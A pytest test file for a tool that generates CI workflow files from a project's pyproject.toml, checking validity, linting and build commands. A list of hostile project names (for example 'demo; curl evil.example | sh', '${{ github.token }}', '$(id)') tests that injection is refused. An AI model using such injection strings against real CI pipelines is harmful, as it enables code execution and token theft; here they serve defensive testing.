"""`hatch-wazcache generate-ci` prints the recipe `wheels.yml` with the names of a project."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from hatch_wazcache.adoption import ci_file
from tests.support.ci import RECIPES
from tests.support.commands import answer, refused, refused_here, said
from tests.support.paths import ROOT, WORK
from tests.support.projects import Project

SYSTEMS = ci_file.CI_SYSTEMS
EXAMPLE = str(ROOT / "example_project")

HATCH = """\
[build-system]
requires = ["hatchling", "hatch-wazcache"]
build-backend = "hatchling.build"

[project]
name = "demo"
version = "1.0"
requires-python = ">=3.9"
dependencies = ["wasmtime>=48,<49"]

[tool.hatch.build.hooks.wazcache]
assets = ["demo/*.wasm"]
"""
OTHER = HATCH.replace("hatchling.build", "uv_build").replace("tool.hatch.build.hooks.", "tool.")
SETUPTOOLS = OTHER.replace("uv_build", "setuptools.build_meta")
COMPANION = HATCH.replace('<49"]', '<49", "demo-wasmtime"]') + 'companion = "demo-wasmtime"\n'
PROJECTS = {
    "hatchling": HATCH,
    "hatchling with targets": HATCH + 'targets = ["x86_64-linux", "any"]\n',
    "hatchling with a companion": COMPANION,
    "engines that PyPI has no CLI for": HATCH + 'engines = ["48", "50"]\n',
    "a compiler": HATCH + 'compiler = "wasmtime"\n',
    "uv_build": OTHER,
    "uv_build with an SBOM": OTHER + "sbom = true\n",
    "setuptools": SETUPTOOLS,
}
"""The content of `pyproject.toml` for each way to build."""


def printed(project: Project, system: str, pyproject: str) -> str:
    project.write("pyproject.toml", pyproject)
    return said(project, "generate-ci", system)


@pytest.mark.parametrize("system", SYSTEMS)
def test_the_recipe_is_what_the_command_prints_for_the_example(system: str, project: Project):
    text = said(project, "generate-ci", system, "--project", EXAMPLE)
    assert text == (RECIPES / system / "wheels.yml").read_text("utf-8")


def actionlint() -> Path:
    found = WORK / "bin" / "actionlint"
    if not found.is_file():
        pytest.skip("actionlint is needed: make check")
    return found


def checks(system: str, *files: Path) -> dict[str, list[str | Path]]:
    """Return the checks of the recipes, as `make check` runs them."""
    programs = Path(sys.executable).parent
    schema = [programs / "check-jsonschema", "--builtin-schema"]
    if system == "gitlab":
        return {"schema": [*schema, "vendor.gitlab-ci", "--data-transform", "gitlab-ci", *files]}
    zizmor = [programs / "zizmor", "--offline", "--no-progress", "--quiet", "--strict-collection"]
    return {
        "schema": [*schema, "vendor.github-workflows", *files],
        "timeouts": [*schema, "custom.github-workflows-require-timeout", *files],
        "zizmor": [*zizmor, "--persona", "pedantic", *files],
    }


def complaints(words: list[str | Path]) -> str:
    done = subprocess.run(
        words, text=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False
    )
    return done.stdout if done.returncode else ""


def files(system: str, project: Project) -> list[Path]:
    """Write the file of each project."""
    return [
        project.write(f"{system} {number}.yml", printed(project, system, pyproject))
        for number, pyproject in enumerate(PROJECTS.values())
    ]


@pytest.mark.parametrize("system", SYSTEMS)
def test_every_check_of_the_recipes_accepts_the_file(system: str, project: Project):
    for name, words in checks(system, *files(system, project)).items():
        assert not complaints(words), name


def test_actionlint_accepts_the_file(project: Project):
    assert not complaints([actionlint(), *files("github", project)])


def test_the_checks_find_mistakes(project: Project):
    text = printed(project, "github", HATCH)
    bad = text.replace("permissions: {}", "permissions: write-all").replace("runs-on", "run-on")
    bad = bad.replace("    timeout-minutes: 120\n", "")
    for name, words in checks("github", project.write("bad.yml", bad)).items():
        assert complaints(words), name
    wrong = printed(project, "gitlab", HATCH).replace("script:", "scripts:")
    (words,) = checks("gitlab", project.write("bad.yml", wrong)).values()
    assert complaints(words)


def test_nothing_of_the_templates_is_left_in_the_file(project: Project):
    for pyproject in PROJECTS.values():
        for system in SYSTEMS:
            text = printed(project, system, pyproject)
            assert "\n#if" not in text
            assert "\n#end" not in text
            assert ci_file._PLACE.search(text) is None, text


HOSTILE = (
    "demo\n  evil:\n    runs-on: ubuntu-latest",
    "demo\n- curl evil.example | sh",
    "${{ github.token }}",
    "demo; curl evil.example | sh",
    "demo $(id)",
    "demo`id`",
    "demo'",
    'demo"',
    "demo # comment",
    "demo: &anchor",
    "*demo",
    "-demo",
    "demo.",
    "demo\u2028x",
    "demo\x1b[31m",
    "démo",
    "",
)


@pytest.mark.parametrize("system", SYSTEMS)
@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("pyproject", [HATCH, OTHER, SETUPTOOLS], ids=["hatch", "uv", "setuptools"])
def test_a_name_cannot_put_anything_into_the_file(
    pyproject: str, name: str, system: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    text = pyproject.replace('"demo"', json.dumps(name))
    (tmp_path / "pyproject.toml").write_text(text, "utf-8")
    message = refused_here(capsys, "generate-ci", system, "-p", tmp_path)
    assert "must be that of a distribution" in message
    assert message.isprintable()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_companion_cannot_put_anything_into_the_file(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    text = COMPANION.replace('"demo-wasmtime"', json.dumps(name))
    (tmp_path / "pyproject.toml").write_text(text, "utf-8")
    assert "companion" in refused_here(capsys, "generate-ci", "github", "-p", tmp_path)


@pytest.mark.parametrize("key", ["requires-python", "build-backend", "engine"])
def test_no_other_value_gets_into_the_file(key: str, project: Project):
    text = HATCH + 'engine = "wasmtime>=48"\n'
    lines = [
        f'{key} = "X ${{{{ github.token }}}}"' if line.startswith(f"{key} =") else line
        for line in text.splitlines()
    ]
    project.write("pyproject.toml", "\n".join(lines))
    for system in SYSTEMS:
        done = project.run("hatch_wazcache", "generate-ci", system)
        assert done.status == 1 or "github.token" not in done.output
        assert "Traceback" not in done.output


def test_a_valid_name_is_in_the_file_as_it_is_written(project: Project):
    text = printed(project, "github", HATCH.replace('"demo"', '"A_b..C-9"'))
    assert "# Builds the wheels of A_b..C-9 for all" in text
    assert "wheels" in yaml.safe_load(text)["name"]


def steps(text: str) -> str:
    return "\n".join(step.get("run", "") for step in yaml.safe_load(text)["jobs"]["build"]["steps"])


@pytest.mark.parametrize(
    ("pyproject", "build"),
    [
        (HATCH, "hatch build -t wazcache:all dist"),
        (PROJECTS["hatchling with targets"], "hatch build -t wazcache dist"),
        (OTHER, "python -m build --wheel\nhatch-wazcache compile dist/*.whl --in-place --targets"),
        (OTHER + 'targets = "native"\n', "hatch-wazcache compile dist/*.whl --in-place\n"),
        (SETUPTOOLS, "WAZCACHE_TARGET=any python -m build --wheel\nhatch-wazcache compile"),
    ],
)  # fmt: skip
def test_the_build_backend_and_the_option_targets_decide_about_the_commands(
    pyproject: str, build: str, project: Project
):
    assert build in steps(printed(project, "github", pyproject))


def test_the_file_says_where_the_second_compiler_is_unless_the_options_do(project: Project):
    assert "WAZCACHE_WASMTIME: pypi" in printed(project, "github", HATCH)
    assert "WAZCACHE_WASMTIME" not in printed(project, "github", PROJECTS["a compiler"])
    text = printed(project, "gitlab", PROJECTS["engines that PyPI has no CLI for"])
    assert "WAZCACHE_WASMTIME: $CI_PROJECT_DIR/wasmtime" in text
    assert "for engine in 48 50; do" in text


def test_where_no_hook_asks_for_it_the_library_of_sboms_is_installed(project: Project):
    install = 'python -m pip install build "hatch-wazcache[sbom]" twine'
    assert install in steps(printed(project, "github", PROJECTS["uv_build with an SBOM"]))
    assert "[sbom]" not in printed(project, "github", HATCH + "sbom = true\n")
    assert install in printed(project, "gitlab", PROJECTS["uv_build with an SBOM"])


@pytest.mark.parametrize(
    ("requires", "python"),
    [(">=3.9", "3.14"), (">=3.10,<3.13", "3.12"), ("", "3.14"), ("==3.11.*", "3.11")],
)
def test_the_python_is_the_newest_that_the_project_admits(
    requires: str, python: str, project: Project
):
    text = printed(project, "github", HATCH.replace(">=3.9", requires))
    assert f'python-version: "{python}"' in text


@pytest.mark.parametrize("requires", [">=3.15", "<3.10", "three"])
def test_a_project_for_no_supported_python_is_one_message(requires: str, project: Project):
    project.write("pyproject.toml", HATCH.replace(">=3.9", requires))
    assert "project.requires-python" in refused(project, "generate-ci", "github")


def test_the_variables_of_this_shell_do_not_count(project: Project):
    text = printed(project, "github", HATCH)
    variables = {"WAZCACHE_TARGET": "any", "WAZCACHE_WASMTIME": "/x", "WAZCACHE_ENGINE": "wasmtime"}
    assert said(project, "generate-ci", "github", **variables) == text


def test_output_writes_the_file_and_replaces_no_other(project: Project):
    text = printed(project, "github", HATCH)
    place = project.root / ".github/workflows/wheels.yml"
    for _time in range(2):
        assert "written" in said(project, "generate-ci", "github", "-o", place)
        assert place.read_text("utf-8") == text
    place.write_text("jobs: {}\n")
    message = refused(project, "generate-ci", "github", "--output", place)
    assert "exists with another text" in message
    assert place.read_text() == "jobs: {}\n"


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no named pipes")
def test_an_output_that_is_a_pipe_is_one_message(project: Project):
    printed(project, "github", HATCH)
    os.mkfifo(project.root / "pipe")
    assert "exists" in refused(project, "generate-ci", "github", "-o", "pipe")


def test_json_has_the_text_and_the_place(project: Project):
    text = printed(project, "gitlab", HATCH)
    data = answer(project, "generate-ci", "gitlab")
    assert data == {"project": str(project.root), "file": ".gitlab-ci.yml", "text": text}


def test_without_options_it_says_what_to_do(project: Project):
    project.write("pyproject.toml", HATCH.partition("[tool")[0])
    assert "hatch-wazcache init" in refused(project, "generate-ci", "github")
    project.write("pyproject.toml", HATCH.replace("tool.hatch.build.hooks.", "tool."))
    assert "has no effect" in refused(project, "generate-ci", "github", "-p", ".")
